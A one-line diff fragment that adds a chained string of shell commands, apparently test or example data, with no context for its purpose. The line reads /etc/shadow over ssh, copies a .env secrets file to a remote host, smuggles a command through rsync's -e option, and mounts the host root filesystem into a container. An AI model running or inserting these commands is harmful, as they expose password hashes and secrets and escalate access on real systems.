@@ -1,0 +1,1 @@
+ssh host 'cat /etc/shadow'; scp .env host:; rsync -e 'sh -c id' a b; docker run -v /:/h x sh
